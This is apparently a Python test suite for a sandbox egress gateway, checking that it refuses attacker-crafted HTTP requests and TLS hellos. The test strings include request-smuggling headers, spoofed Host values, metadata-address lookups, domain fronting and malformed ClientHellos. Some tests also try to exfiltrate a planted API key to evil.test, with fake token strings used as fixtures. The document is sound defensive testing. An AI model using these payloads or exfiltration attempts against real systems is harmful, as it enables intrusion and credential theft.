#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Requests and TLS hellos as attackers write them, in the clear and inside of TLS that ends in the gateway."""
import json
import os
import socket
import subprocess
import sys

sys.dont_write_bytecode = True
import inspect_test  # noqa: E402
from cases import GLOVEBOX, LIMIT, main, run  # noqa: E402
from egress_test import cidr, domain, network  # noqa: E402
from internet import EVIL, GOOD  # noqa: E402

AUTHORITY = "/usr/local/share/ca-certificates/glovebox-ca.crt"
TALK = r"""
import re
def talk(data, secure=True, host="api.good.test", port=0, name="", context=None):
    # all that is answered, up to the end
    address = look(host)
    if secure and not context:
        context = ssl.create_default_context()  # takes long: one that says nothing for a while is judged by that
    s = tcp(host if isinstance(address, str) else address[0], port or (443 if secure else 80))
    if isinstance(s, str):
        return s
    said = b""
    try:
        if secure:
            s = context.wrap_socket(s, server_hostname=name or host)
        s.sendall(data.encode("latin-1") if isinstance(data, str) else data)
        while piece := s.recv(65536):
            said += piece
    except ssl.SSLError as e:
        return said.decode("latin-1") or e.reason
    except OSError as e:
        return said.decode("latin-1") or errno.errorcode.get(e.errno, str(e))
    finally:
        s.close()
    return said.decode("latin-1")
def codes(data, *words, **more):
    # the status of each answer; or what became of the connection
    said = talk(data, *words, **more)
    return [int(code) for code in re.findall(r"HTTP/1\.1 (\d{3}) ", said)] or said
def get(target="/", host="Host: api.good.test", *fields, version="1.1", method="GET", body=""):
    return "\r\n".join([f"{method} {target} HTTP/{version}", *([host] if host else []), *fields, "Connection: close", "", body])
"""
# Takes the hello of a TLS client for a name, and changes it.
HELLO = r"""
def hello(name, *alpn):
    c = ssl.create_default_context()
    if alpn:
        c.set_alpn_protocols(list(alpn))
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        c.wrap_bio(i, o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return o.read()
def with_extension(h, kind, data):
    body = h[9:]
    at = 34 + 1 + body[34]
    at += 2 + int.from_bytes(body[at:at + 2], "big")
    at += 1 + body[at]
    rest = body[at + 2:] + struct.pack(">2H", kind, len(data)) + data
    body = body[:at] + struct.pack(">H", len(rest)) + rest
    return h[:3] + struct.pack(">H", len(body) + 4) + b"\1" + len(body).to_bytes(3, "big") + body
def began(host, h):
    # the first record that comes back: 22 is a handshake, and an alert has its number behind it
    s = tcp(look(host)[0], 443)
    try:
        s.sendall(h)
        a = s.recv(7)
        return [a[0], a[6]] if a[0] == 21 else a[0]
    except OSError as e:
        return errno.errorcode[e.errno]
"""
DENIED = [21, 49]  # access_denied


class Talk(inspect_test.Inspect):
    BOTH = domain("api.good.test", "www.pkg.test", tls="terminate")

    def inside(self, code, *options, **more):
        options = options or self.policy(self.BOTH)
        return self.python(TALK + HELLO + (code if "print" in code else f"print(json.dumps({code}))"), *options, **more)

    def expect_codes(self, expected, *options):
        """Each request, written as Python, has these answers in the clear and inside of TLS."""
        texts = list(expected)
        found = self.inside(f"[[codes(r, secure) for secure in (False, True)] for r in ({', '.join(texts)},)]", *options)
        for text, became in zip(texts, found):
            with self.subTest(text):
                wanted = expected[text] if isinstance(expected[text], list) else [expected[text]] * 2
                self.assertEqual(became, [[w] if isinstance(w, int) else w for w in wanted])


class Requests(Talk):
    def test_g14_c9_c10_framing_and_hosts_that_can_be_read_in_two_ways(self):
        post = "get('/', 'Host: api.good.test', {}, method='POST', body='0\\r\\n\\r\\n')"
        framing = ["'Content-Length: 5', 'Transfer-Encoding: chunked'", "'Content-Length: 5', 'Content-Length: 6'",
                   "'Transfer-Encoding: xchunked'", "'Transfer-Encoding: gzip, chunked'", "'Transfer-Encoding: chunked, chunked'",
                   "'Transfer-Encoding: chunked', 'Transfer-Encoding: identity'", "'X-A: 1\\r\\n folded: 2'", "'Content-Length : 5'",
                   "'Content-Length: +5'", "'Content-Length: 5, 5'", "'Content-Length: 0x5'", "'Transfer-Encoding:\\x0bchunked'",
                   "'X-A: 1\\nX-B: 2'", "'X\\0A: 1'"]
        hosts = ["''", "'Host: api.good.test\\r\\nHost: api.good.test'", "'Host: evil.test\\r\\nHost: api.good.test'",
                 "'Host: api.good.test@evil.test'", "'Host: evil.test@api.good.test'", "'Host: api.good.test, evil.test'",
                 "'Host: api.good.test/'", "'Host: api.good.test:0'", "'Host: api.good.test:99999'", "'Host: api.good.test\\0.evil.test'",
                 "'Host: [[api.good.test]]'", "'Host: api%2egood.test'"]
        self.expect_codes({**{post.format(f): 400 for f in framing}, **{f"get('/', {h})": 400 for h in hosts},
                           "get().replace('\\r\\n', '\\n')": 400})
        self.assertEqual(self.came_in()["requests"], [])

    def test_c1_c3_c7_c8_c11_whose_request_it_is(self):
        good, evil = "'Host: api.good.test'", "'Host: evil.test'"
        self.expect_codes({
            f"get('/', {evil})": 421, f"get('http://evil.test/', {good})": 421, f"get('http://api.good.test/', {evil})": 421,
            f"'\\r\\n\\r\\n' + get('/', {evil})": 421, "get('/', 'Host: api.good.test:8443')": 421,
            f"'\\r\\n' + get('/a', {good})": 200, "get('/b', 'Host: API.good.test.')": 200,
            f"get('http://api.good.test/c', {good}) ": [200, 421], f"get('https://api.good.test/c', {good})": [421, 200]})
        self.assertEqual(sorted(r[2] for r in self.came_in()["requests"]), ["/a", "/a", "/b", "/b", "/c", "/c"])
        self.assertEqual({r[1] for r in self.came_in()["requests"]}, {"api.good.test"})

    def test_a22_a23_a24_b4_addresses_in_place_of_names(self):
        hosts = ["2130706433", "0x7f.1", "127.1", "169.254.169.254", "[::1]", "[::ffff:127.0.0.1]", GOOD, EVIL]
        found = self.inside(f"[[codes(get('/', f'Host: {{h}}'), secure) for secure in (False, True)] for h in {hosts}] + "
                            "[codes(get('/', 'Host: 127\\u30020\\u30020\\u30021'.encode().decode('latin-1')))]")
        for host, became in zip(hosts, found):
            with self.subTest(host):
                self.assertTrue(all(b in ([400], [403], [421]) for b in became), became)
        self.assertEqual((found[-1], self.came_in()["requests"]), ([400], []))

    def test_c2_a_request_for_another_host_where_tls_passes_through(self):
        """It can't be seen, and whoever checks such a policy is told; where TLS ends in the gateway it is refused."""
        code = f"""
context = ssl.create_default_context()
context.load_verify_locations(cadata={network().root!r})
print(json.dumps(codes(get("/fronted", "Host: evil.test"), context=context)))
"""
        for tls, answer, came_in, codes in (("passthrough", [200], [["evil.test", "/fronted"]], ["fronting"]), ("terminate", [421], [], [])):
            with self.subTest(tls):
                self.before = network().counts()
                rules = self.policy(domain("api.good.test", tls=tls))
                self.assertEqual(self.inside(code, *rules), answer)
                self.assertEqual([r[1:3] for r in self.came_in()["requests"]], came_in)
                checked = subprocess.run([GLOVEBOX, "policy", "check", "--json", rules[1]], capture_output=True, timeout=LIMIT, check=False)
                self.assertEqual((checked.returncode, checked.stderr), (0, b""))
                self.assertEqual([(w["code"], w["rule"]) for w in json.loads(checked.stdout)["warnings"]], [(code, "r0") for code in codes])

    def test_f7_fields_that_tell_who_asks_are_left_out(self):
        """However they are written; what nothing was said of goes on."""
        rule = domain("api.good.test", transforms=[{"remove_headers": ["Cookie", "Referer", "If-None-Match", "If-Modified-Since"]}])
        fields = ["Cookie: a=1", "cOOKIE: b=2", "Referer: https://api.good.test/private", "If-None-Match: \"77\"", "if_none_match: \"78\"",
                  "If-Modified-Since: Mon, 02 Jan 2006 15:04:05 GMT", "X-Kept: 1"]
        found = self.inside(f"[talk(get('/echo', 'Host: api.good.test', *{fields}), secure) for secure in (False, True)]", *self.policy(rule))
        for said in found:
            names = {name.lower() for name, _ in json.loads(said.partition("\r\n\r\n")[2])["headers"]}
            self.assertEqual(names & {"cookie", "referer", "if-none-match", "if_none_match", "if-modified-since", "x-kept"}, {"x-kept"})

    def test_c5_c6_each_request_inside_of_tls_is_judged(self):
        code = "codes('GET /one HTTP/1.1\\r\\nHost: api.good.test\\r\\n\\r\\n' + get('/two', 'Host: evil.test') + get('/three'))"
        self.assertEqual(self.inside(code), [200, 421])
        self.assertEqual([r[2] for r in self.came_in()["requests"]], ["/one"])

    def test_c5_c8_c10_what_some_servers_take_for_a_request(self):
        """In the clear it is one for us, too: as another protocol it would pass without a look at Host."""
        lines = ["GET / HTTP/2.0", "GET / HTTP/0.9", "GET / RTSP/1.0", "GET /", "FROB x:80 HTTP/1.1", "MKCALENDAR s://evil.test/ HTTP/1.1",
                 "GET evil.test HTTP/1.1", "GET / http/1.1", "\r\n" * 50 + "GET / HTTP/1.1", "\r" * 50 + "GET / HTTP/1.1",
                 " GET / HTTP/1.1", "\r\n\t GET / HTTP/1.1", "GET\x1c/\x1fHTTP/1.1"]
        found = self.inside(f"[codes(l + '\\r\\nHost: evil.test\\r\\n\\r\\n', False) for l in {lines}]", "--allow", "api.good.test")
        for line, became in zip(lines, found):
            with self.subTest(line):
                self.assertIn(became, ([400], [403], [421], [505]))
        self.assertEqual(self.came_in()["requests"], [])

    def test_c5_a_method_that_comes_by_itself(self):
        """It may be the first word of any protocol, so it goes on; what makes it a request does not."""
        code = """
def in_pieces(first, rest, name="api.good.test", port=80):
    s = tcp(look(name)[0], port)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    said = b""
    try:
        for piece in (first, *rest):
            s.sendall(piece.encode())
            time.sleep(0.3)
        s.shutdown(socket.SHUT_WR)
        while piece := s.recv(1000):
            said += piece
        return said.decode()[:20]
    except OSError as e:
        return errno.errorcode[e.errno]
head = " / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
print(json.dumps([in_pieces("FROB", [head]), in_pieces("FROB x", [":80 HT", "TP/1.1\\r\\n"]),
                  in_pieces("\\r\\nFROB", [head]), in_pieces("hello", [" there", "\\nyou", " HTTP/"], port=7),
                  in_pieces("hello", [" there"], port=7)]))
"""
        found = self.inside(code, "--allow", "*.good.test")
        self.assertLessEqual(set(found[:3]), {"ECONNRESET", "ENOTCONN", "EPIPE"})
        self.assertEqual(found[3:], ["/PTTH uoy\nereht olle", "ereht olleh"])
        self.assertEqual([d.get("reason") for d in self.decisions("connect") if d["decision"] == "deny"], ["malformed"] * 3)

    def test_c10_c18_old_versions_and_what_is_no_http(self):
        found = self.inside("[codes(get(version='1.0')), codes('GET /\\r\\n'), codes('SSH-2.0-x\\r\\n\\r\\n'), codes(b'\\0' * 100), "
                            "codes('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')]")
        self.assertEqual(found, [[200], [400], [400], [400], [505]])
        self.assertEqual(len(self.came_in()["requests"]), 1)

    def test_c10_c24_http2_without_tls(self):
        """Its requests are not read: where a name allows, they could be for another host of the server's."""
        code = "[ord(c) for c in talk(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', False, '%s')]"
        denied = [0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 8, 7, *[0] * 12, 13]  # SETTINGS, GOAWAY(HTTP_1_1_REQUIRED)
        name = "api.good.test"
        for host, rule, is_denied in ((name, domain(name, ports=[80]), True), (name, domain(name, http={"method": ["GET"]}), True),
                                      (name, domain(name, ports=[80], l7="raw"), False), (GOOD, cidr(f"{GOOD}/32", ports=[80]), False)):
            with self.subTest(rule):
                found = self.inside(code % host, *self.policy(rule))
                reason = self.decisions("connect")[-1]["reason"]
                self.assertEqual((found == denied, reason == "http2_clear"), (is_denied, is_denied), (found, reason))
                self.assertEqual(self.came_in()["requests"], [])

    def test_c25_connect_to_a_host_that_is_a_proxy(self):
        connect = "'CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n'"
        code = f"[codes({connect}, False, 'proxy.test', 3128), codes({connect}), codes(get('http://evil.test/'), False, 'proxy.test', 3128)]"
        found = self.inside(code, *self.policy(domain("proxy.test"), self.BOTH))
        self.assertTrue(all(f in ([403], [421]) for f in found), found)
        self.assertEqual((self.came_in()["proxied"], self.came_in()["requests"]), ([], []))

    def test_c26_a_proxy_that_the_policy_lets_be_used(self):
        code = f"""
def through(target, name):
    s = tcp(look("proxy.test")[0], 3128)
    s.sendall(b"CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n" % ((target.encode(),) * 2))
    head = b""
    while not head.endswith(b"\\r\\n\\r\\n"):
        piece = s.recv(1)
        if not piece:
            return "end"
        head += piece
    if b" 200 " not in head:
        return int(head[9:12])
    try:
        with ssl.create_default_context().wrap_socket(s, server_hostname=name) as t:
            t.sendall(get("/by-proxy").encode())
            return t.recv(100).decode()[9:12]
    except ssl.SSLError as e:
        return e.reason
    except OSError as e:
        return errno.errorcode[e.errno]
print(json.dumps([through("api.good.test", "api.good.test"), through("evil.test", "evil.test"),
                  through("api.good.test", "evil.test"), through("{GOOD}", "api.good.test")]))
"""
        found = self.inside(code, *self.policy(domain("proxy.test", ports=[3128], connect="allow"), domain("api.good.test")))
        self.assertEqual(found[:2], ["200", 403])
        self.assertIn(found[2], ("TLSV1_ALERT_ACCESS_DENIED", "ECONNRESET", "UNEXPECTED_EOF_WHILE_READING"))
        self.assertNotEqual(found[3], "200")
        self.assertEqual([r[2] for r in self.came_in()["requests"]], ["/by-proxy"])
        self.assertNotIn("evil.test:443", self.came_in()["proxied"])

    def test_c23_a_websocket(self):
        code = """
def socket_to(path):
    s = ssl.create_default_context().wrap_socket(tcp(look("api.good.test")[0], 443), server_hostname="api.good.test")
    s.sendall(b"GET %s HTTP/1.1\\r\\nHost: api.good.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
              b"Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n" % path)
    head = b""
    while not head.endswith(b"\\r\\n\\r\\n"):
        head += s.recv(1)
    if b" 101 " not in head:
        return int(head[9:12])
    s.sendall(b"get / http/1.1\\r\\nhost: evil.test\\r\\n\\r\\n")
    return s.recv(100).decode()
print(json.dumps([socket_to(b"/v1/socket"), socket_to(b"/v2/socket")]))
"""
        found = self.inside(code, *self.policy(domain("api.good.test", http={"path": {"prefix": "/v1/"}})))
        self.assertEqual(found, ["GET / HTTP/1.1\r\nHOST: EVIL.TEST\r\n\r\n", 403])

    def test_c24_g9_what_belongs_to_a_connection_stays_there(self):
        text = ("GET /echo HTTP/1.1\\r\\nHost: api.good.test\\r\\nConnection: close, Upgrade, HTTP2-Settings, X-Hop\\r\\nUpgrade: h2c\\r\\n"
                "HTTP2-Settings: AAMAAABkAAQAAP__\\r\\nX-Hop: 1\\r\\nProxy-Authorization: Basic eA==\\r\\nKeep-Alive: 5\\r\\nX-Kept: 1\\r\\n\\r\\n")
        for said in self.inside(f"[talk('{text}', secure) for secure in (False, True)]"):
            names = {name.lower() for name, _ in json.loads(said.split("\r\n\r\n", 1)[1])["headers"]}
            self.assertIn("x-kept", names)
            self.assertEqual(names & {"upgrade", "http2-settings", "x-hop", "proxy-authorization", "keep-alive"}, set())

    def test_c27_a_client_that_waits_for_a_hundred(self):
        code = """
s = ssl.create_default_context().wrap_socket(tcp(look("api.good.test")[0], 443), server_hostname="api.good.test")
s.sendall(get("/", "Host: api.good.test", "Content-Length: 3", "Expect: 100-continue", method="POST").encode())
first = s.recv(1000).decode()
s.sendall(b"\\1\\2\\3")
said = first
while piece := s.recv(1000):
    said += piece.decode()
print(json.dumps([first[:12], said.split()[-1]]))
"""
        self.assertEqual(self.inside(code), ["HTTP/1.1 100", "6"])

    def test_c28_tls_on_any_port(self):
        found = self.inside("[codes(get('/x', 'Host: www.pkg.test:8443'), port=8443, host='www.pkg.test'), "
                            "codes(get('/x', 'Host: evil.test:8443'), port=8443, host='www.pkg.test')]")
        self.assertEqual(found, [[200], [421]])

    def test_e1_f3_redirects_are_the_clients_to_follow(self):
        code = """
import urllib.request, urllib.error
said = talk(get("/to?https://evil.test/x"))
try:
    urllib.request.urlopen("https://api.good.test/to?https://evil.test/x")
except urllib.error.URLError as e:
    end = errno_of(e.reason)
print(json.dumps([said.split("\\r\\n\\r\\n")[0], end]))
"""
        said, end = self.inside(code)
        self.assertRegex(said, r"(?s)\AHTTP/1.1 302 .*Location: https://evil\.test/x")
        self.assertNotIn("h3", said)
        self.assertEqual(end, "NONAME")
        self.expect_connections([f"{GOOD}:443"] * 2)

    def test_h1_a_head_that_does_not_come(self):
        rules = self.policy(self.BOTH, limits={"header_timeout_ms": 300, "first_flight_ms": 300})
        self.assertEqual(self.inside("[codes('GET / HTTP/1.1\\r\\nX', secure) for secure in (False, True)]", *rules), [[408], [408]])
        self.assertEqual(self.came_in()["requests"], [])

    def test_g17_a_refusal_is_read_by_who_is_still_sending(self):
        code = """
def post(secure):
    c = (http.client.HTTPSConnection if secure else http.client.HTTPConnection)("api.good.test", timeout=20)
    c.putrequest("POST", "/")
    c.putheader("Content-Length", "200000")
    c.endheaders()
    try:
        for _ in range(200):
            c.send(b"x" * 1000)
    except OSError as e:
        return repr(e)
    return c.getresponse().status
print(json.dumps([post(secure) for secure in (False, True)]))
"""
        rules = self.policy(domain("api.good.test", http={"method": ["GET"]}))
        self.assertEqual(self.inside(code, *rules), [403, 403])
        self.assertEqual(self.came_in()["requests"], [])

    def test_h2_heads_have_limits(self):
        rules = self.policy(self.BOTH, limits={"header_bytes": 2048, "header_count": 8, "line_bytes": 1024})
        self.expect_codes({"get('/', 'Host: api.good.test', *['X-A: ' + 'y' * 900] * 3)": 431,
                           "get('/', 'Host: api.good.test', *['X-A: 1'] * 8)": 431, "get('/' + 'a' * 1200)": 414}, *rules)
        self.assertEqual(self.came_in()["requests"], [])

    def test_h2_a_line_of_any_length_is_judged(self):
        """As a request, and not as another protocol, of which nothing more would be read."""
        code = """
def first(length):
    s = tcp(look("api.good.test")[0])
    try:
        s.sendall(("GET /" + "a" * length).encode())
        s.sendall(b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
        return s.recv(12).decode()[9:]
    except OSError as e:
        return "cut"
print(json.dumps([first(length) for length in (8000, 9000, 50000)]))
"""
        found = self.inside(code, "--allow", "api.good.test")
        self.assertEqual(found[0], "421")
        self.assertTrue(all(f in ("414", "cut") for f in found[1:]), found)
        self.assertEqual(self.came_in()["requests"], [])

    def test_f1_f2_paths_are_what_is_left_for_hosts_of_many(self):
        rules = self.policy(domain("api.good.test", http={"method": ["GET"], "path": {"prefix": "/acme/"}}))
        self.expect_codes({"get('/acme/x')": 200, "get('/mallory/x')": 403, "get('/acme/../mallory/x')": 403,
                           "get('/acme/%2e%2e/mallory')": 403, "get('/acme/x', method='POST')": 403}, *rules)
        self.assertEqual([r[2] for r in self.came_in()["requests"]], ["/acme/x"] * 2)
        self.assertEqual({d["words"] for d in self.decisions("request") if d["decision"] == "deny"},
                         {"this sandbox may not make that request there"})


class Hellos(Talk):
    def test_a5_an_address_for_a_name(self):
        found = self.inside(f"[began('api.good.test', hello('aa.bb.cc.dd').replace(b'aa.bb.cc.dd', b'{GOOD}')), "
                            f"began('api.good.test', hello('a-b.test').replace(b'a-b.test', b'a..bt\\0st'))]")
        self.assertTrue(all(isinstance(f, list) and f[0] == 21 for f in found), found)
        self.assertEqual(self.came_in()["requests"], [])

    def test_a2_a_name_that_has_to_be_looked_up(self):
        rules = self.policy(domain("api.good.test", identity="pinned"))
        found = self.inside(f"[greet('{GOOD}', 'api.good.test'), look('api.good.test'), greet('{GOOD}', 'api.good.test')]", *rules)
        self.assertEqual(found, ["TLSV1_ALERT_ACCESS_DENIED", [GOOD], f"{GOOD} /hello"])

    def test_c12_no_name_to_an_address_that_has_one(self):
        code = """
c = ssl.create_default_context()
c.check_hostname = False
s = c.wrap_socket(tcp(look("api.good.test")[0], 443))
s.sendall(get("/nameless").encode())
print(json.dumps([s.getpeercert()["subjectAltName"], s.recv(100).decode()[9:12]]))
"""
        self.assertEqual(self.inside(code), [[["DNS", "api.good.test"]], "200"])

    def test_c13_a_hello_that_hides_another(self):
        """What it shows counts; it may hide something, as browsers always pretend."""
        code = """
ech = b"\\0\\0\\1\\0\\1\\7\\0\\x20" + bytes(32) + b"\\0\\x40" + bytes(64)
print(json.dumps([began("api.good.test", with_extension(hello(n), 0xfe0d, ech)) for n in ("api.good.test", "cloudflare-ech.com")]))
"""
        for rules in ((self.BOTH,), (domain("api.good.test"),)):
            self.assertEqual(self.inside(code, *self.policy(*rules)), [22, DENIED])
            self.assertNotIn(f"{EVIL}:443", self.came_in()["connections"])

    def test_f5_random_numbers_of_a_hello(self):
        """They are the gateway's where TLS ends there. Where it passes they are a way out to who is allowed, as sizes and times are
        everywhere, which docs/policy.md says."""
        wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
        self.addCleanup(wire.close)
        wire.bind(("out", 0))
        wire.setblocking(False)
        for rule, passes in ((self.BOTH, False), (domain("api.good.test"), True)):
            begun, *own = self.inside("h = hello('api.good.test')\n"
                                      "print(json.dumps([began('api.good.test', h), h[11:43].hex(), h[44:76].hex()]))", *self.policy(rule))
            seen = b""
            try:
                while packet := wire.recv(65536):
                    seen += packet
            except BlockingIOError:
                pass
            self.assertEqual((begun, b"api.good.test" in seen), (22, True))
            self.assertEqual([bytes.fromhex(number) in seen for number in own], [passes] * 2)

    def test_a10_c13_a_warning_before_a_hello(self):
        """Some servers skip it, or an empty record, and read the name behind it."""
        records = "15030100020164", "140303000101", "1603010000"
        code = f"[began('api.good.test', bytes.fromhex(r) + hello(n)) for r in {records} for n in ('evil.test', 'api.good.test')]"
        for rule in (self.BOTH, domain("api.good.test")):
            self.assertEqual(self.inside(code, *self.policy(rule)), [DENIED] * 6)
        self.assertEqual(self.came_in()["requests"], [])

    def test_c15_a_hello_that_does_not_end(self):
        found = self.inside("began('api.good.test', hello('api.good.test')[:-1])", *self.policy(self.BOTH, limits={"first_flight_ms": 300}))
        self.assertEqual(found, "ECONNRESET")
        self.assertIn("limit:first_flight", [d.get("reason") for d in self.decisions()])
        self.assertEqual(self.came_in()["requests"], [])

    def test_c16_old_versions(self):
        code = """
c = ssl.create_default_context()
c.set_ciphers("DEFAULT@SECLEVEL=0")
c.minimum_version = ssl.TLSVersion.TLSv1
c.maximum_version = ssl.TLSVersion.TLSv1_1
print(json.dumps([codes(get(), context=c), began("api.good.test", b"\\x80\\x2e\\1\\0\\2\\0\\x15\\0\\0\\0\\x10" + bytes(37))]))
"""
        found = self.inside(code)
        self.assertIn(found[0], ("TLSV1_ALERT_PROTOCOL_VERSION", "UNSUPPORTED_PROTOCOL"))
        self.assertNotEqual(found[1], 22)
        self.assertEqual(self.came_in()["requests"], [])

    def test_c17_http_2_alone(self):
        no_protocol = [21, 120]
        code = "[began('api.good.test', hello('api.good.test', *p)) for p in (['h2'], ['h2', 'http/1.1'])]"
        self.assertEqual(self.inside(code), [no_protocol, 22])
        self.assertEqual(self.inside(code, *self.policy(domain("api.good.test", tls="passthrough"))), [22, 22])

    def test_c20_g27_a_client_with_roots_of_its_own(self):
        code = f"""
def with_roots(pem):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.load_verify_locations(cadata=pem)
    return codes(get("/pinned"), context=c)
careless = ssl.create_default_context()
careless.check_hostname, careless.verify_mode = False, ssl.CERT_NONE
print(json.dumps([with_roots({network().root!r}), codes(get("/", "Host: api.good.test:8445"), port=8445, context=careless)]))
"""
        self.assertEqual(self.inside(code), ["CERTIFICATE_VERIFY_FAILED", [502]])
        self.assertEqual(self.came_in()["requests"], [])
        passing = self.policy(domain("api.good.test", tls="passthrough"))
        self.assertEqual(self.inside(code, *passing)[0], [200])

    def test_g26_g28_i10_the_authority_of_a_sandbox(self):
        """Its key is nowhere in it, and its clock may be behind."""
        code = f"""
text = open("{AUTHORITY}").read()
c = ssl.create_default_context()
s = c.wrap_socket(tcp(look("api.good.test")[0], 443), server_hostname="api.good.test")
own = [a for a in c.get_ca_certs() if a["subject"] == s.getpeercert()["issuer"]]
hours = [(time.time() - ssl.cert_time_to_seconds(x["notBefore"])) / 3600 for x in (s.getpeercert(), own[0])]
print(json.dumps([len(own), hours, "PRIVATE" in text + json.dumps(dict(os.environ)), text]))
"""
        first, second = self.inside(code), self.inside(code)
        self.assertEqual((first[0], first[2]), (1, False))
        self.assertTrue(first[1][0] >= 23.9 and first[1][1] >= 47.9, first[1])
        self.assertNotEqual(first[3], second[3])


class Credentials(Talk):
    VALUE = "sk-live-9a1b2c3d4e5f60718293a4b5c6d7e8f9"

    def setUp(self):
        super().setUp()
        os.environ["TEST_KEY"] = self.VALUE
        self.addCleanup(os.environ.pop, "TEST_KEY")

    def with_secret(self, **more):
        return self.policy(domain("api.good.test", "api.test", "evil.test", tls="terminate", **more),
                           secrets={"K": {"source": {"env": "TEST_KEY"}, "env": ["K"], "allow": {"hosts": ["api.test"]}}})

    def test_g8_g9_what_the_policy_sets_is_set_once(self):
        rules = self.policy(domain("api.good.test", transforms=[{"set_headers": {"authorization": "Bearer z", "X-Api-Key": "y"}}]))
        text = ("GET /echo HTTP/1.1\\r\\nHost: api.good.test\\r\\nAuthorization: mine\\r\\nAUTHORIZATION: mine, too\\r\\n"
                "X_Api_Key: mine\\r\\nX-API_KEY: mine\\r\\nX_Own: 1\\r\\n"
                "Connection: close, authorization\\r\\n\\r\\n")
        trailer = ("POST / HTTP/1.1\\r\\nHost: api.good.test\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n"
                   "0\\r\\nAuthorization: mine\\r\\n\\r\\n")
        said, refused = self.inside(f"[talk('{text}'), codes('{trailer}')]", *rules)
        headers = json.loads(said.split("\r\n\r\n", 1)[1])["headers"]
        self.assertEqual([value for name, value in headers if name.lower() == "authorization"], ["Bearer z"])
        # As a server sees them that makes variables of them.
        seen = [(name.upper().replace("-", "_"), value) for name, value in headers]
        self.assertEqual([value for name, value in seen if name == "X_API_KEY"], ["y"])
        self.assertIn(("X_OWN", "1"), seen)
        self.assertNotIn("mine", json.dumps(self.came_in()["authorizations"]))
        self.assertNotEqual(refused, [200])

    def test_g2_an_address_that_the_guest_chose(self):
        """With the secret it goes to the server that the name leads to, or to none."""
        code = f"""
k = os.environ["K"]
s = ssl.create_default_context().wrap_socket(tcp("{EVIL}", 443), server_hostname="api.test")
s.sendall(get("/", "Host: api.test", "Authorization: " + k).encode())
print(json.dumps(s.recv(100).decode()[9:12]))
"""
        self.inside(code, *self.with_secret())
        self.expect_connections([f"{GOOD}:443"])
        self.assertLessEqual(set(self.came_in()["authorizations"]), {self.VALUE})

    def test_g1_in_the_clear(self):
        code = f"""
k = os.environ["K"]
by_address = tcp("{EVIL}")
by_address.sendall(get("/", "Host: api.test", "Authorization: " + k).encode())
print(json.dumps([codes(get("/", "Host: api.test", "Authorization: " + k), False, host="api.test"),
                  by_address.recv(100).decode()[9:12]]))
"""
        self.assertEqual(self.inside(code, *self.with_secret()), [[403], "403"])
        self.assertEqual((self.came_in()["requests"], self.came_in()["authorizations"]), ([], []))

    def test_f4_a_redirect_takes_no_secret_along(self):
        code = """
import urllib.request, urllib.error
request = urllib.request.Request("https://api.test/to?https://evil.test/x", headers={"X-Key": os.environ["K"], "Authorization": os.environ["K"]})
try:
    end = urllib.request.urlopen(request).status
except urllib.error.HTTPError as e:
    end = [e.code, e.url]
print(json.dumps(end))
"""
        self.assertEqual(self.inside(code, *self.with_secret()), [403, "https://evil.test/x"])
        self.assertEqual([r[1] for r in self.came_in()["requests"]], ["api.test"])

    def test_g4_content_in_pieces(self):
        """A placeholder is found wherever it is cut."""
        code = """
k = os.environ["K"].encode()
s = ssl.create_default_context().wrap_socket(tcp(look("evil.test")[0], 443), server_hostname="evil.test")
data = b"key=" + k + b"&end"
s.sendall(get("/", "Host: evil.test", f"Content-Length: {len(data)}", method="POST").encode())
try:
    for byte in data:
        s.sendall(bytes([byte]))
    end = s.recv(100).decode()[9:12]
except OSError as e:
    end = "cut"
print(json.dumps(end))
"""
        self.assertNotEqual(self.inside(code, *self.with_secret()), "200")
        self.assertEqual(self.came_in()["requests"], [])
        self.assertIn("secret_violation", [d.get("reason") for d in self.decisions("request")])

    def test_g10_g11_servers_that_say_what_they_got(self):
        code = """
k = os.environ["K"]
field = "Authorization: " + k
print(json.dumps([k, talk(get("/echo", "Host: api.test", field), host="api.test"),
                  codes(get("/", "Host: api.test", field, method="TRACE"), host="api.test")]))
"""
        placeholder, said, trace = self.inside(code, *self.with_secret())
        self.assertIn(placeholder, said)
        self.assertNotIn(self.VALUE, said)
        self.assertEqual(trace, [403])
        self.assertEqual([r[0] for r in self.came_in()["requests"]], ["GET"])


    def test_g21_an_answer_with_a_new_secret(self):
        """It has a value that nobody said is one: it comes through, as it is said to. Those that are known don't."""
        new = "gho_" + "16C7e42F292c6912E7710c838347Ae178B4a"
        code = f'''
k = os.environ["K"]
print(json.dumps([k, talk(get("/echo?access_token={new}", "Host: api.test", "Authorization: " + k), host="api.test")]))
'''
        placeholder, said = self.inside(code, *self.with_secret())
        self.assertIn(new, said)
        self.assertIn(placeholder, said)
        self.assertNotIn(self.VALUE, said)


class Starts(Talk):
    def test_k3_k5_proxies_that_are_refused(self):
        proxy = {"type": "socks5", "address": "proxy.test:1080"}
        for more, words in (({"username": "u" * 256}, "/upstream/username"), ({"address": "p" * 256 + ":1"}, "/upstream/address"),
                            ({"resolve": "remote"}, "/upstream/resolve")):
            done = run(*self.policy(self.BOTH, upstream={**proxy, **more}), "--", "true")
            self.expect_refused(done, words)

    def test_k6_datagrams_do_not_go_past_a_proxy(self):
        code = f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
try:
    s.connect(("{GOOD}", 7))
    s.send(b"x")
    s.recv(10)
    print(json.dumps("answered"))
except OSError as e:
    print(json.dumps("refused"))
"""
        rules = self.policy(cidr(f"{GOOD}/32"), upstream={"type": "socks5", "address": "proxy.test:1080"})
